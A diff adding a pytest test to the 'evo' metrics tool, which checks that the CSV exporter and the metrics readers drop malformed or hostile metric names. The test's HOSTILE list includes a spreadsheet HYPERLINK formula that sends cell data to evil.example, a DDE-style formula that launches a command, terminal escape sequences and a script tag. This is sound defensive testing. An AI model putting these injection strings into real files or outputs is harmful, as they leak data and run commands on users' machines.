@@ -4,15 +4,19 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import math
+import shutil
 from importlib.util import find_spec
 from pathlib import Path
 
 import numpy as np
 import pytest
 
+from evo.cli.commands.watch import MetricsTail
 from evo.errors import ConfigurationError, extra
 from evo.exports.tables import columns, csv_of
+from evo.store.metrics import MetricsFile
 from evo.store.run import Run
 from evo.store.store import Store
 from tests.helpers.calling import ROOT, SMALL, called
@@ -57,6 +61,31 @@ def test_a_csv_file_has_every_digit_and_nothing_where_a_value_is_missing(run: Pa
         assert {name: float(value) for name, value in line.items() if value} == row
     assert [line["frames"] for line in table] == ["4096", "1000000000000000", "0"]
     assert [line["mean"] for line in table] == ["0.30000000000000004", "", "0.3333333333333333"]
+
+
+HOSTILE = (
+    "\x1b]0;owned\x07\x1b[2J\x1b[31mall good\x1b[0m\r\n", '=HYPERLINK("http://evil.example/?"&A1,"mean")',
+    "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-mean", "", "mean\u202e", "x" * 61, "<script>",
+)  # fmt: skip
+
+
+def test_what_has_no_name_or_value_of_a_metric_is_dropped_by_every_reader_and_kept_in_the_file(
+    run: Path, tmp_path: Path
+) -> None:
+    run = shutil.copytree(run, tmp_path / "run")
+    before = called(run.parent, "export", "run", "--to", "csv", program="evo")
+    file = run / "metrics.jsonl"
+    lines = [json.loads(line) for line in file.read_text().splitlines()]
+    odd = {"words": "\x1b[2J", "listed": [1], "large": 10**400, "yes": True, "nested": {"a": 1}}
+    wrong = [{"generation": number, "mean": 5.0} for number in ("0", 0.5, True, -1, None, [0], 1 << 60)]
+    texts = [json.dumps({**line, **dict.fromkeys(HOSTILE, 1.0), **odd}) for line in lines]
+    file.write_text("\n".join([*texts, *map(json.dumps, wrong), ""]))
+    assert called(run.parent, "export", "run", "--to", "csv", program="evo") == before
+    assert [set(line) & {*HOSTILE, *odd} for line in MetricsTail(run).read()] == [set()] * (len(lines) - 1)
+    assert [set(line) & {*HOSTILE, *odd} for line in MetricsFile(run).read()] == [set()] * len(lines)
+    called(run.parent, "doctor", "run", program="evo")
+    MetricsFile(run).trim(len(lines))
+    assert file.read_text() == "".join(f"{text}\n" for text in texts)
 
 
 def test_a_table_of_no_generations_has_a_header() -> None:
